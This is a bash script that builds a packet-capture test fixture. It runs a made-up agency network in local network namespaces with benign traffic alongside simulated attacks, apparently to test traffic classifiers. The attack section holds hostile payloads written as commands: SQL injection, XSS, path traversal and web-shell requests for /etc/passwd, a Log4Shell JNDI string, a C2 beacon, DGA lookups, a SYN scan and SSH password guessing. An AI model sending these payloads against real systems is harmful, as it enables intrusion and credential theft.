#!/bin/bash
# Builds tests/captures/sample.pcap: a small capture of a made-up agency network, made by
# running real software (dnsmasq, python3 http.server, openssl s_server, dropbear, curl,
# dig, OpenSSH, paramiko, nmap, ping, logger) in network namespaces that this script
# creates and removes again. Nothing leaves the machine: every address is private and
# lives inside the namespaces.
#
#   usage: make-sample-capture.sh [OUT.pcap]      (default: tests/captures/sample.pcap)
#   needs: root, Debian 12 (missing packages are installed with apt-get)
#
# Topology (captured with tcpdump on the router's LAN port, i.e. a tap between the
# agency LAN and its uplink):
#
#   ns "lan"  10.10.1.0/24                ns "rtr"                 ns "net" 172.16.0.0/24
#   10.10.1.23 workstation   lan0 ===== rtr-lan  rtr-net ===== net0  172.16.0.53  dns (dnsmasq)
#   10.10.1.66 compromised            10.10.1.1  172.16.0.1          172.16.0.80  www (http :80)
#              host / attacker         [tcpdump here]                172.16.0.43  portal (https :443,
#                                                                                 mail :8443)
#                                                                    172.16.0.22  bastion (ssh :22)
#                                                                    172.16.0.99  C2 (http :80)
#                                                                    172.16.0.14  syslog (udp 514)
#                                                                    172.16.0.123 ntp (udp 123)
#
# Regenerating gives different bytes (times, ports, keys); the committed pcap is the
# fixture that tests/scripts/suite-sample.sh checks. See tests/captures/README.md.
set -euo pipefail

HERE=$(cd "$(dirname "$0")/.." && pwd)
OUT=${1:-$HERE/captures/sample.pcap}
case "$OUT" in /*) ;; *) OUT=$PWD/$OUT ;; esac

[ "$(id -u)" -eq 0 ] || { echo "make-sample-capture: must run as root (network namespaces)" >&2; exit 1; }

# ---------------------------------------------------------------------------------------
# Tools
# ---------------------------------------------------------------------------------------
PKGS="iproute2 ethtool tcpdump dnsmasq-base bind9-dnsutils curl openssl dropbear-bin
      openssh-client python3 python3-paramiko nmap iputils-ping bsdutils"
missing=""
for p in $PKGS; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" ||
        missing="$missing $p"
done
if [ -n "$missing" ]; then
    echo "make-sample-capture: installing:$missing"
    export DEBIAN_FRONTEND=noninteractive
    apt-get update -qq
    # shellcheck disable=SC2086
    apt-get install -y -qq --no-install-recommends $missing
fi
PY=/usr/bin/python3 # Debian's python, which has python3-paramiko

# ---------------------------------------------------------------------------------------
# Namespaces
# ---------------------------------------------------------------------------------------
TAG="canhs$$"
LAN="$TAG-lan"
RTR="$TAG-rtr"
NET="$TAG-net"
TMP=$(mktemp -d /tmp/canh-sample.XXXXXX)
PIDS=""

cleanup() {
    set +e
    for p in $PIDS; do kill "$p" 2>/dev/null; done
    sleep 0.3
    for p in $PIDS; do kill -9 "$p" 2>/dev/null; done
    for ns in "$LAN" "$RTR" "$NET"; do
        # anything still running inside (started by this script only) goes with the ns
        for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
        ip netns del "$ns" 2>/dev/null
    done
    rm -rf "/etc/netns/$LAN" "$TMP"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

lan() { ip netns exec "$LAN" "$@"; }
rtr() { ip netns exec "$RTR" "$@"; }
net() { ip netns exec "$NET" "$@"; }
bg() { # bg NS LOGNAME CMD...: start CMD in namespace NS in the background
    local ns=$1 log=$2
    shift 2
    ip netns exec "$ns" "$@" >"$TMP/$log.log" 2>&1 &
    PIDS="$PIDS $!"
}
step() { echo "== $*"; }
pause() { sleep "${1:-1}"; }

for ns in "$LAN" "$RTR" "$NET"; do
    ip netns add "$ns"
    ip -n "$ns" link set lo up
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
done
ip -n "$LAN" link add lan0 address 02:00:0a:0a:01:17 type veth peer name rtr-lan netns "$RTR" address 02:00:0a:0a:01:01
ip -n "$NET" link add net0 address 02:00:ac:10:00:50 type veth peer name rtr-net netns "$RTR" address 02:00:ac:10:00:01

# The capture must hold what is on a wire: whole segments with real checksums, so no
# checksum offload, no TSO/GSO/GRO on any end.
for pair in "$LAN lan0" "$RTR rtr-lan" "$RTR rtr-net" "$NET net0"; do
    # shellcheck disable=SC2086 # "NS DEV", split on purpose
    set -- $pair
    ip netns exec "$1" ethtool -K "$2" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
    ip -n "$1" link set "$2" up
done

ip -n "$LAN" addr add 10.10.1.23/24 dev lan0
ip -n "$LAN" addr add 10.10.1.66/24 dev lan0
ip -n "$LAN" route add default via 10.10.1.1
# The workstation reaches the bastion over a path with a small MSS (460, as on some
# tunnelled links). dropbear sends its banner and its KEXINIT in one 538-byte segment, and
# nDPI 4.2 reads an SSH server banner only from a segment shorter than 500 bytes; with
# this path the workstation's session shows the server's software, while the password
# guessing from the other host (normal MSS) shows what nDPI makes of the coalesced one.
ip -n "$LAN" rule add from 10.10.1.23 to 172.16.0.22/32 lookup 100
ip -n "$LAN" route add 172.16.0.22/32 via 10.10.1.1 dev lan0 advmss 460 table 100
ip -n "$RTR" addr add 10.10.1.1/24 dev rtr-lan
ip -n "$RTR" addr add 172.16.0.1/24 dev rtr-net
rtr sysctl -qw net.ipv4.ip_forward=1
for a in 53 80 43 22 99 14 123; do ip -n "$NET" addr add 172.16.0.$a/24 dev net0; done
ip -n "$NET" route add default via 172.16.0.1

# The LAN's resolver (ip netns exec bind-mounts this over /etc/resolv.conf).
mkdir -p "/etc/netns/$LAN"
printf 'search agency.example\nnameserver 172.16.0.53\noptions timeout:2 attempts:1\n' >"/etc/netns/$LAN/resolv.conf"

# ---------------------------------------------------------------------------------------
# Servers (namespace "net")
# ---------------------------------------------------------------------------------------
step "servers"

# DNS: the agency's zone, a TXT record (SPF), the C2's DGA domain that resolves, and
# DGA names that do not exist (NXDOMAIN), as a infected host sees them.
bg "$NET" dnsmasq dnsmasq -k -C /dev/null --pid-file= --no-resolv --no-hosts --no-poll --bind-interfaces \
    --listen-address=172.16.0.53 --log-queries --log-facility=- \
    --domain-needed --bogus-priv \
    --host-record=www.agency.example,172.16.0.80 \
    --host-record=intranet.agency.example,172.16.0.80 \
    --host-record=portal.agency.example,172.16.0.43 \
    --host-record=mail.agency.example,172.16.0.43 \
    --host-record=bastion.agency.example,172.16.0.22 \
    --host-record=ntp.agency.example,172.16.0.123 \
    --host-record=log.agency.example,172.16.0.14 \
    --host-record=updates.vendor.example,172.16.0.80 \
    --host-record=kq3v9zxw7hjtpm.com,172.16.0.99 \
    --txt-record=agency.example,"v=spf1 mx ip4:172.16.0.0/24 -all" \
    --mx-host=agency.example,mail.agency.example,10 \
    --address=/com/ --address=/net/ --address=/info/ --address=/example/

# Web: python3 http.server with a small site, a login form, an admin area behind Basic
# auth, a download, and a C2 "gate" (same process answers on .80 and .99).
mkdir -p "$TMP/www" "$TMP/home/.ssh"
cat >"$TMP/web.py" <<'EOF'
import base64, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>{t}</title>
<link rel="stylesheet" href="/static/site.css"></head>
<body><h1>{t}</h1><p>{b}</p>
<ul><li><a href="/news/2024/bao-cao-thang.html">Bao cao thang</a></li>
<li><a href="/login">Dang nhap</a></li><li><a href="/files/setup.exe">Phan mem</a></li></ul>
</body></html>
"""

class H(BaseHTTPRequestHandler):
    def send(self, code, body, ctype="text/html; charset=utf-8", extra=()):
        if isinstance(body, str):
            body = body.encode()
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_GET(self):
        p = self.path.split("?")[0]
        if p in ("/", "/index.html"):
            self.send(200, PAGE.format(t="Cong thong tin", b="Trang chu cua co quan."))
        elif p.startswith("/news/"):
            self.send(200, PAGE.format(t="Bao cao thang", b="Noi dung bao cao. " * 40))
        elif p == "/static/site.css":
            self.send(200, "body{font-family:sans-serif;margin:2em}h1{color:#a00}\n", "text/css")
        elif p == "/login":
            self.send(200, '<form method="post" action="/login"><input name="username">'
                           '<input type="password" name="password"><button>OK</button></form>')
        elif p == "/files/setup.exe":
            body = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + \
                   b"This program cannot be run in DOS mode.\r\r\n$" + bytes(range(256)) * 6
            self.send(200, body, "application/x-msdownload",
                      [("Content-Disposition", 'attachment; filename="setup.exe"')])
        elif p.startswith("/admin"):
            auth = self.headers.get("Authorization", "")
            if auth.startswith("Basic ") and base64.b64decode(auth[6:]) == b"admin:admin123":
                self.send(200, PAGE.format(t="Quan tri", b="Bang dieu khien."))
            else:
                self.send(401, "Unauthorized", "text/plain",
                          [("WWW-Authenticate", 'Basic realm="admin"')])
        else:
            self.send(404, "<html><body><h1>404 Not Found</h1></body></html>")

    do_HEAD = do_GET

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        self.rfile.read(n)
        p = self.path.split("?")[0]
        if p == "/login":
            self.send(302, "", extra=[("Location", "/portal"), ("Set-Cookie", "sid=4f2a9c1e7b; HttpOnly")])
        elif p == "/gate.php":
            self.send(200, "OK:sleep=300", "text/plain")
        else:
            self.send(404, "<html><body><h1>404 Not Found</h1></body></html>")

    def log_message(self, fmt, *args):
        sys.stderr.write("%s %s\n" % (self.client_address[0], fmt % args))

ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
EOF
bg "$NET" web python3 "$TMP/web.py" 80

# TLS: openssl s_server with self-signed certificates. The portal (443) speaks TLS 1.2 at
# most so that its certificate is visible on the wire; mail (8443) allows TLS 1.3.
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -sha256 \
    -subj "/C=VN/O=Agency Example/OU=IT/CN=portal.agency.example" \
    -keyout "$TMP/portal.key" -out "$TMP/portal.crt" 2>/dev/null
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 365 \
    -subj "/C=VN/O=Agency Example/CN=mail.agency.example" \
    -keyout "$TMP/mail.key" -out "$TMP/mail.crt" 2>/dev/null
bg "$NET" tls443 openssl s_server -quiet -accept 172.16.0.43:443 -no_tls1_3 -www \
    -cert "$TMP/portal.crt" -key "$TMP/portal.key"
bg "$NET" tls8443 openssl s_server -quiet -accept 172.16.0.43:8443 -www \
    -cert "$TMP/mail.crt" -key "$TMP/mail.key"

# SSH: dropbear on the bastion. /root is replaced by a scratch home inside this
# namespace's private mount namespace only, so the host's /root/.ssh is never touched.
dropbearkey -t ed25519 -f "$TMP/dropbear_ed25519" >/dev/null 2>&1
dropbearkey -t rsa -s 2048 -f "$TMP/dropbear_rsa" >/dev/null 2>&1
ssh-keygen -q -t ed25519 -N "" -C "analyst@ws-023" -f "$TMP/id_ed25519"
cp "$TMP/id_ed25519.pub" "$TMP/home/.ssh/authorized_keys"
chmod 700 "$TMP/home" "$TMP/home/.ssh"
chmod 600 "$TMP/home/.ssh/authorized_keys"
bg "$NET" dropbear sh -c "mount --bind '$TMP/home' /root && exec dropbear -F -E -j -k \
    -p 172.16.0.22:22 -r '$TMP/dropbear_ed25519' -r '$TMP/dropbear_rsa' -P '$TMP/dropbear.pid'"

# UDP: a syslog collector and an NTP server (python, answering SNTP).
cat >"$TMP/udp.py" <<'EOF'
import socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], int(sys.argv[2])))
while True:
    data, peer = s.recvfrom(2048)
    if sys.argv[2] == "123" and len(data) >= 48:
        now = time.time() + 2208988800
        sec, frac = int(now), int((now % 1) * 2**32)
        reply = struct.pack("!BBbb11I", 0x24, 2, 6, -23, 0, 0x10, 0xac100001,
                            sec, frac, *struct.unpack("!II", data[40:48]), sec, frac, sec, frac)
        s.sendto(reply, peer)
    else:
        sys.stderr.write("%s %r\n" % (peer[0], data[:120]))
EOF
bg "$NET" syslog python3 "$TMP/udp.py" 172.16.0.14 514
bg "$NET" ntp python3 "$TMP/udp.py" 172.16.0.123 123

# Wait until every TCP server listens.
for _ in $(seq 50); do
    n=$(net ss -ltnH 2>/dev/null | grep -cE ':(22|80|443|8443) ' || true)
    [ "$n" -ge 4 ] && break
    sleep 0.2
done
[ "$n" -ge 4 ] || { echo "servers did not start:"; tail -n 5 "$TMP"/*.log; exit 1; }

# ---------------------------------------------------------------------------------------
# Capture
# ---------------------------------------------------------------------------------------
step "capture on the router's LAN port"
rm -f "$OUT"
# started directly (ip netns exec execs tcpdump, so $! is tcpdump's pid) and stopped
# with SIGTERM: a background job of a script ignores SIGINT.
ip netns exec "$RTR" tcpdump -i rtr-lan -s 0 -U -w "$TMP/sample.pcap" >"$TMP/tcpdump.log" 2>&1 &
TCPDUMP=$!
PIDS="$PIDS $TCPDUMP"
for _ in $(seq 50); do grep -q "listening on" "$TMP/tcpdump.log" && break; sleep 0.1; done
pause 1

WS=10.10.1.23   # the analyst's workstation
EVIL=10.10.1.66 # a compromised host on the LAN, used for attacks
FIREFOX="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0"
CHROME="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
wcurl() { lan curl -s -o /dev/null --max-time 5 --interface "$WS" -A "$FIREFOX" "$@" || true; }
ecurl() { lan curl -s -o /dev/null --max-time 5 --interface "$EVIL" "$@" || true; }

# --- normal work -------------------------------------------------------------------------
step "workstation: time, DNS, web browsing"
lan "$PY" - <<'EOF' || true
import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.bind(("10.10.1.23", 0))
now = time.time() + 2208988800
pkt = struct.pack("!BBbb11I", 0x23, 0, 6, -20, 0, 0, 0, 0, 0, 0, 0, 0, 0, int(now), int((now % 1) * 2**32))
s.sendto(pkt, ("172.16.0.123", 123)); s.recvfrom(100)
EOF
pause
lan dig +tries=1 +time=2 -b "$WS" @172.16.0.53 agency.example MX >/dev/null || true
lan dig +tries=1 +time=2 -b "$WS" @172.16.0.53 agency.example TXT >/dev/null || true
wcurl http://www.agency.example/
wcurl http://www.agency.example/static/site.css -e http://www.agency.example/
pause
wcurl http://www.agency.example/news/2024/bao-cao-thang.html -e http://www.agency.example/
wcurl http://www.agency.example/login
wcurl -X POST -H "Content-Type: application/x-www-form-urlencoded" \
    --data "username=nguyenvana&password=Thang12%402024&remember=1" http://www.agency.example/login
pause
step "workstation: HTTPS (TLS 1.2, self-signed certificate) and TLS 1.3 on 8443"
wcurl -k --tlsv1.2 https://portal.agency.example/
lan curl -s -o /dev/null --max-time 5 --interface "$WS" -A "$CHROME" -k https://mail.agency.example:8443/ || true
pause
step "workstation: software download, admin page with Basic auth"
wcurl http://updates.vendor.example/files/setup.exe
wcurl -u admin:admin123 http://intranet.agency.example/admin/
pause
step "workstation: SSH session to the bastion"
lan ssh -F /dev/null -b "$WS" -i "$TMP/id_ed25519" -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -o LogLevel=ERROR \
    root@bastion.agency.example 'uname -s; id -u; uptime' >/dev/null || true
step "workstation: syslog and pings"
for m in "sshd[812]: Accepted publickey for root from 10.10.1.23 port 51022" \
         "CRON[1022]: (root) CMD (/usr/local/bin/backup.sh)" \
         "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=10.10.1.66 DST=10.10.1.23 PROTO=TCP DPT=445"; do
    lan logger --udp -n 172.16.0.14 -P 514 -t ws-023 -- "$m" || true
done
lan ping -c 3 -i 0.3 -I "$WS" 172.16.0.80 >/dev/null || true
lan ping -c 2 -i 0.3 -I "$WS" 172.16.0.53 >/dev/null || true
# a DNS query that is never answered: nothing listens on the old secondary resolver
lan dig +tries=1 +time=1 -b "$WS" @172.16.0.54 www.agency.example A >/dev/null || true
pause

# --- infected host: DGA lookups, beacon ----------------------------------------------------
step "compromised host: DGA lookups and C2 beacon"
for d in xkqzjvbwpltr.com vbqfhdlxjxdpzkq.net mtx8p2vq0c7h3zk.info kq3v9zxw7hjtpm.com; do
    lan dig +tries=1 +time=2 -b "$EVIL" @172.16.0.53 "$d" A >/dev/null || true
done
ecurl -A "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)" -X POST \
    --data-binary "id=WS-066&os=win10&d=ZXhmaWx0cmF0aW9uIHRlc3QgZGF0YQ==" \
    http://kq3v9zxw7hjtpm.com/gate.php --resolve kq3v9zxw7hjtpm.com:80:172.16.0.99
pause

# --- attacks on the web server -------------------------------------------------------------
step "attacker: web attacks"
SQLMAP="sqlmap/1.7.2#stable (https://sqlmap.org)"
NIKTO="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)"
ecurl -A "$SQLMAP" "http://www.agency.example/news.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-" --resolve www.agency.example:80:172.16.0.80
ecurl -A "$SQLMAP" "http://www.agency.example/news.php?id=1%20OR%201=1" --resolve www.agency.example:80:172.16.0.80
ecurl -A "$FIREFOX" "http://www.agency.example/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" --resolve www.agency.example:80:172.16.0.80
ecurl -A "$FIREFOX" --path-as-is "http://www.agency.example/download.php?file=../../../../etc/passwd" --resolve www.agency.example:80:172.16.0.80
ecurl -A "$NIKTO" "http://www.agency.example/cgi-bin/test-cgi" --resolve www.agency.example:80:172.16.0.80
ecurl -A "curl/7.88.1" "http://www.agency.example/uploads/shell.php?cmd=cat%20/etc/passwd" --resolve www.agency.example:80:172.16.0.80
ecurl -A '${jndi:ldap://172.16.0.66:1389/Exploit}' "http://www.agency.example/" --resolve www.agency.example:80:172.16.0.80
ecurl -A "$FIREFOX" "http://172.16.0.80/phpmyadmin/index.php"
pause

# --- reconnaissance -----------------------------------------------------------------------
step "attacker: ping sweep and SYN port scan"
for h in 80 22 43; do lan ping -c 1 -W 1 -I "$EVIL" 172.16.0.$h >/dev/null || true; done
lan nmap -n -sS -T4 --top-ports 300 -e lan0 -S "$EVIL" 172.16.0.80 >"$TMP/nmap.log" 2>&1 || true
pause

# --- SSH password guessing ----------------------------------------------------------------
step "attacker: SSH password guessing"
lan "$PY" - <<'EOF' || true
import logging, socket, paramiko
logging.disable(logging.CRITICAL)
for user, pw in [("root", "123456"), ("root", "admin"), ("admin", "admin"), ("admin", "password"),
                 ("oracle", "oracle"), ("ubuntu", "ubuntu"), ("test", "test123"), ("root", "P@ssw0rd")]:
    s = socket.socket(); s.settimeout(5); s.bind(("10.10.1.66", 0))
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        s.connect(("172.16.0.22", 22))
        c.connect("172.16.0.22", username=user, password=pw, sock=s, look_for_keys=False,
                  allow_agent=False, timeout=5, banner_timeout=5, auth_timeout=5)
    except Exception:
        pass
    finally:
        c.close(); s.close()
EOF
pause 2

# ---------------------------------------------------------------------------------------
step "stop"
kill -TERM "$TCPDUMP"
wait "$TCPDUMP" 2>/dev/null || true
mkdir -p "$(dirname "$OUT")"
cp "$TMP/sample.pcap" "$OUT"
chmod 644 "$OUT"
echo "wrote $OUT: $(stat -c %s "$OUT") bytes, $(tcpdump -nr "$OUT" 2>/dev/null | wc -l) packets"
